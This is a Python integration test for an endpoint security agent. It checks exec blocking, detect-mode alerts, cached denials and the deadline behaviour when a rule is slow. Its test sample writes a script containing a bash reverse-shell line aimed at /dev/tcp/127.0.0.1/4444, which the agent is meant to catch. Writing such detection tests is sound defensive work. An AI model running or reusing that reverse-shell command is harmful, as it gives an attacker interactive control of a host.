"""Blocking at program start: a script whose content matches a rule fails
with EPERM under `block`, runs with an alert under `detect`; a slow verdict
never holds a program start past the deadline."""
import errno
import os
import shutil
import signal
import subprocess
import time
import yit
from yit import get

yit.require_root()
t = yit.Test(__file__)
# File scanning on write is off here so that the exec check does the work.
# The deadline is generous here (sanitizer builds are slow): this part is
# about blocking; the deadline has its own agent below.
ag = yit.Agent(t, {"scan": {"on_write": False},
                   "policy": {"exec": "block", "exec_deadline_ms": 3000}})

script = t.path("payload.sh")
with open(script, "w") as f:
    f.write("#!/bin/sh\nexit 0\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n")
os.chmod(script, 0o755)

try:
    subprocess.run([script])
    t.check(False, "blocked script must not run")
except PermissionError as e:
    t.check_eq(e.errno, errno.EPERM, "execution fails with EPERM under block")
a = ag.wait_event(lambda e: get(e, "event.action") == "exec-denied" and get(e, "file.path") == script,
                  what="exec-denied alert", timeout=60)
t.check(a is not None and "denied" in get(a, "event.type", []), "alert says denied")
t.check(a is not None and get(a, "yamori.scan.trigger") == "exec", "trigger exec")

# A second start of the same unchanged file is answered from the cache.
try:
    subprocess.run([script])
    t.check(False, "blocked script must not run (cached)")
except PermissionError:
    t.check(True, "second start denied too")
a2 = ag.wait_event(lambda e: get(e, "event.action") == "exec-denied" and get(e, "yamori.scan.cached") is True,
                   what="cached denial", timeout=60)

# A clean program still runs.
t.check_eq(subprocess.run(["/bin/true"]).returncode, 0, "clean programs run")

# detect: runs, alert only.
conf = dict(ag.conf)
conf["policy"] = {"exec": "detect"}
ag.write_conf(conf)
ag.proc.signal(signal.SIGHUP)
t.wait_for(lambda: ag.proc.stderr_text().count("configuration reloaded") >= 1, what="reload")
script2 = t.path("payload2.sh")
shutil.copy(script, script2)
os.chmod(script2, 0o755)
r = subprocess.run([script2])
t.check_eq(r.returncode, 0, "under detect the script runs")
a = ag.wait_event(lambda e: get(e, "event.action") == "exec-allowed" and get(e, "file.path") == script2,
                  what="exec-allowed alert", timeout=60)
t.check(a is not None and get(a, "event.kind") == "alert", "alert under detect")
ag.proc.stop()

# Deadline: a deliberately slow rule over a large program. The start is
# allowed after the deadline and an event says so.
rules = t.path("slow-rules")
os.mkdir(rules)
with open(os.path.join(rules, "slow.yar"), "w") as f:
    f.write('import "math"\nrule Slow_Entropy_Everywhere { condition: '
            'for any i in (0..filesize) : (math.entropy(i, 256) > 7.999) }\n')
big = t.path("bigprog")
shutil.copy(os.path.realpath("/usr/bin/python3"), big)
os.chmod(big, 0o755)
slow = yit.Agent(t, {"rules": {"dirs": [rules]}, "scan": {"on_write": False, "timeout_s": 60},
                     "policy": {"exec": "block", "exec_deadline_ms": 250}}, name="slow")
t0 = time.monotonic()
r = subprocess.run([big, "-c", "pass"])
waited = time.monotonic() - t0
print("program start with a slow verdict took %.3f s" % waited)
t.check_eq(r.returncode, 0, "the program ran")
t.check(waited < 2.0, "start not held far past the 250 ms deadline (%.3f s)" % waited)
e = slow.wait_event(lambda e: get(e, "event.action") == "exec-unscanned" and get(e, "event.reason") == "deadline",
                    what="deadline event")
if e:
    d = get(e, "event.duration") / 1e6
    print("deadline answer after %.1f ms" % d)
    t.check(240 <= d < 1000, "answered at the deadline (%.1f ms)" % d)
t.check(slow.proc.poll() is None, "agent still running")
t.done()
